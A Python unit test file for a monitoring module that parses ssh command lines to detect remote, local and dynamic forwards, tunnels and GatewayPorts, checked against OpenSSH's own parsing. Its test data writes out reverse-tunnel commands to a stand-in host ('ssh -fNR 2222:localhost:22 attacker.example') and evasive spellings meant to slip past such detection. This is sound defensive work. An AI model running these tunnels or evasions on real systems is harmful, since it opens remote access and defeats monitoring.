"""Unit tests for monitor.policy.sshargs: what an ssh command line asks for, however spelled."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.policy.sshargs import (
    DYNAMIC_FORWARD,
    FEATURES,
    GATEWAY_PORTS,
    LOCAL_FORWARD,
    REMOTE_FORWARD,
    TUNNEL,
    parse_ssh_argv,
    possible_features,
    requested_features,
    split_config_line,
)

R, D, L, W, G = REMOTE_FORWARD, DYNAMIC_FORWARD, LOCAL_FORWARD, TUNNEL, GATEWAY_PORTS

# (command line as a shell would split it, features it requests)
SPELLINGS: list[tuple[str, set[str]]] = [
    # -R, every way getopt accepts it
    ("ssh -R 9000:localhost:22 attacker.example", {R}),
    ("ssh -R9000:localhost:22 attacker.example", {R}),
    ("ssh -fNR 2222:localhost:22 attacker.example", {R}),
    ("ssh -fNR2222:localhost:22 attacker.example", {R}),
    ("ssh -vvvR 9000:x:22 host", {R}),
    ("ssh -R 0.0.0.0:9000:localhost:22 -R 9001:localhost:80 host", {R}),
    # -D, -L, -w, -g
    ("ssh -NfgD1080 host", {D, G}),
    ("ssh -D 1080 host", {D}),
    ("ssh -D localhost:1080 -N host", {D}),
    ("ssh -L 8080:localhost:80 host", {L}),
    ("ssh -g -L 8080:localhost:80 host", {L, G}),
    ("ssh -w 0:0 root@host", {W}),
    ("ssh -w0 root@host", {W}),
    ("ssh -w any host", {W}),
    # -o, ssh_config syntax: any case, '=' or spaces, quoted keyword, attached to -o
    ("ssh -o RemoteForward='9000 localhost:22' host", {R}),
    ("ssh -o 'RemoteForward 9000 localhost:22' host", {R}),
    ("ssh -oRemoteForward='9000 localhost:22' host", {R}),
    ("ssh -o remoteforward=9000:localhost:22 host", {R}),
    ("ssh -o REMOTEFORWARD=9000:localhost:22 host", {R}),
    ("ssh -o '  RemoteForward = 9000 x:22' host", {R}),
    ("ssh -o '\"RemoteForward\" 9000 x:22' host", {R}),
    ("ssh -o 'Remote\"Forward\" 9000 x:22' host", {R}),
    ("ssh -fo 'RemoteForward 9000 x:22' host", {R}),
    ("ssh -fNo RemoteForward=9000:x:22 host", {R}),
    ("ssh -o DynamicForward=1080 host", {D}),
    ("ssh -o 'DYNAMICFORWARD=1080' host", {D}),
    ("ssh -o LocalForward='8080 localhost:80' host", {L}),
    ("ssh -o Tunnel=yes host", {W}),
    ("ssh -o Tunnel=point-to-point host", {W}),
    ("ssh -o Tunnel=Ethernet host", {W}),
    ("ssh -o 'Tunnel true' host", {W}),
    ("ssh -o Tunnel=no host", set()),
    ("ssh -o GatewayPorts=yes host", {G}),
    ("ssh -o GatewayPorts=no host", set()),
    ("ssh -o PermitRemoteOpen=any host", set()),
    ("ssh -o '#RemoteForward 9000 x:22' host", set()),
    # first value wins for Tunnel and GatewayPorts; -g always wins; ClearAllForwardings
    ("ssh -o Tunnel=no -w 0:0 host", set()),
    ("ssh -w 0:0 -o Tunnel=no host", {W}),
    ("ssh -o GatewayPorts=no -o GatewayPorts=yes host", set()),
    ("ssh -o GatewayPorts=no -g host", {G}),
    ("ssh -R 9000:x:22 -o ClearAllForwardings=yes host", set()),
    ("ssh -w 0 -g -o ClearAllForwardings=yes host", {G}),
    ("ssh -o ClearAllForwardings=no -o ClearAllForwardings=yes -R 1:x:2 host", {R}),
    # options that take an argument must not swallow or be swallowed
    ("ssh -p 22 -l user host -R 9000:x:22", {R}),
    ("ssh -p 2222 -R 9000:x:22 -l user host", {R}),
    ("ssh -i /home/a/.ssh/id -J jump.example -R 9000:x:22 host", {R}),
    ("ssh -l -R host", set()),  # "-R" is the login name here
    ("ssh -E log -c aes128-ctr -m hmac-sha2-256 -b 127.0.0.1 -e none -S none -P t -R 1:x:2 h",
     {R}),
    # options after the destination are parsed (OpenSSH parses once more after it)...
    ("ssh attacker.example -fNR 2222:localhost:22", {R}),
    ("ssh user@host -D 1080", {D}),
    ("ssh ssh://user@host:2222 -R 9000:x:22", {R}),
    # ...up to the remote command, which is never parsed as options
    ("ssh host ssh -R 9000:x:22 other", set()),
    ("ssh host sh -c 'ssh -R 9000:x:22 other'", set()),
    ("ssh host -v make -R", set()),
    ("ssh host -- -R 9000:x:22", set()),
    ("ssh -- host -R 9000:x:22", set()),
    ("ssh host1 host2 -R 9000:x:22", set()),
    # ordinary use
    ("ssh host make", set()),
    ("ssh -t user@host htop", set()),
    ("ssh -i key -p 2200 -o StrictHostKeyChecking=no git@github.com git-upload-pack x", set()),
    ("ssh -T git@github.com", set()),
    ("ssh", set()),
]


@pytest.mark.parametrize(("line", "expected"), SPELLINGS, ids=[s for s, _ in SPELLINGS])
def test_spellings(line: str, expected: set[str]) -> None:
    assert parse_ssh_argv(shlex.split(line)).features == expected
    assert requested_features(shlex.split(line)) == expected


def test_there_are_at_least_twenty_spellings_of_a_forward() -> None:
    assert len([s for s, f in SPELLINGS if f]) >= 20
    assert FEATURES == {R, D, L, W, G}


def test_destination_and_remote_command() -> None:
    req = parse_ssh_argv(["ssh", "-p", "22", "user@host", "-t", "ssh", "-R", "1:x:2", "h2"])
    assert req.destination == "user@host"
    assert req.command == ("ssh", "-R", "1:x:2", "h2")
    assert req.features == frozenset()
    assert parse_ssh_argv(["ssh", "-R", "1:x:2"]).destination is None


def test_argv0_is_never_parsed() -> None:
    assert parse_ssh_argv(["-R", "host"]).destination == "host"
    assert parse_ssh_argv(["/usr/bin/ssh", "-R1:x:2", "h"]).features == {R}


def test_what_argv_cannot_tell_is_noted() -> None:
    assert "-F /tmp/cfg" in parse_ssh_argv(["ssh", "-F", "/tmp/cfg", "h"]).unknown[0]
    assert "config" in parse_ssh_argv(["ssh", "-fN", "alias"]).unknown[0]
    assert parse_ssh_argv(["ssh", "-fNR", "1:x:2", "h"]).unknown == ()
    assert "Include" in parse_ssh_argv(["ssh", "-o", "Include /tmp/x", "h"]).unknown[0]
    assert "unknown option -Z" in parse_ssh_argv(["ssh", "-Z", "h"]).unknown[0]
    assert "-R without its argument" in parse_ssh_argv(["ssh", "h", "-R"]).unknown[0]
    assert "no argument" in parse_ssh_argv(["ssh", "-o", "RemoteForward", "h"]).unknown[0]


def test_unknown_option_does_not_hide_a_later_request() -> None:
    assert parse_ssh_argv(["ssh", "-ZR", "1:x:2", "h"]).features == {R}


@pytest.mark.parametrize(("line", "expected"), [
    ("RemoteForward 1 x:2", ("RemoteForward", "1 x:2")),
    ("RemoteForward=1 x:2", ("RemoteForward", "1 x:2")),
    ("  RemoteForward  =  1 x:2 ", ("RemoteForward", "1 x:2")),
    ('"RemoteForward" 1', ("RemoteForward", "1")),
    ("Tunnel", ("Tunnel", "")),
    ("# comment", (None, "")),
    ("", (None, "")),
])
def test_split_config_line(line: str, expected: tuple[str | None, str]) -> None:
    assert split_config_line(line) == expected


# --- the real ssh agrees ---------------------------------------------------------------

_G_KEYS = {"remoteforward": R, "dynamicforward": D, "localforward": L}


def _ssh_says(argv: list[str], home: Path) -> set[str] | None:
    """What `ssh -G` (parse, print the resulting config, connect nowhere) reports."""
    env = {"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    done = subprocess.run(["ssh", "-F", "/dev/null", "-G", *argv[1:]], env=env, cwd=home,
                          capture_output=True, text=True, timeout=10, check=False)
    # (cwd: spellings like `-E log` make ssh create that log file where it runs)
    if done.returncode != 0:
        return None
    found: set[str] = set()
    for out in done.stdout.splitlines():
        key, _, value = out.partition(" ")
        if key in _G_KEYS:
            found.add(_G_KEYS[key])
        elif key == "tunnel" and value != "false":
            found.add(W)
        elif key == "gatewayports" and value == "yes":
            found.add(G)
    return found


@pytest.mark.skipif(shutil.which("ssh") is None, reason="no ssh client on this machine")
def test_openssh_parses_every_spelling_the_same_way(tmp_path: Path) -> None:
    compared = 0
    for line, expected in SPELLINGS:
        argv = shlex.split(line)
        if len(argv) < 2 or "ssh://" in line:
            continue
        said = _ssh_says(argv, tmp_path)
        if said is None:  # ssh refuses the command line (as -G), nothing to compare
            continue
        assert said == expected, line
        compared += 1
    assert compared >= 40


# --- command lines too long to parse ------------------------------------------------------------

TOKENS = ["-R", "-D", "-L", "-w", "-g", "-N", "-f", "-v", "-o", "-p", "-l", "-F", "--", "-",
          "-fNR9:x:2", "-vvg", "-Nw0:0", "-oRemoteForward=9 x:22", '-o"Tunnel" yes',
          '-oRemote"Forward"=9:x:22', "-oGatewayPorts=yes", "-oDynamicForward 1080",
          "-oClearAllForwardings=yes", "host", "9000:localhost:22", "ssh", "-R1:x:2", "a b"]


@given(st.lists(st.sampled_from(TOKENS), max_size=10))
def test_possible_features_never_miss_what_ssh_would_request(args: list[str]) -> None:
    """The scan used for command lines of more arguments than the monitor splits finds at
    least every feature the exact parse finds."""
    argv = ["ssh", *args]
    assert requested_features(argv) <= possible_features(" ".join(argv))


def test_possible_features_over_a_padded_command_line() -> None:
    pad = " -o SendEnv=A" * 100_000
    assert possible_features(f"ssh{pad} -R 9000:localhost:22 host") == {R}
    assert possible_features(f"ssh{pad} -oremote\"FORWARD\"=9 host") == {R}
    assert possible_features(f"ssh{pad} host ls -la") == frozenset()
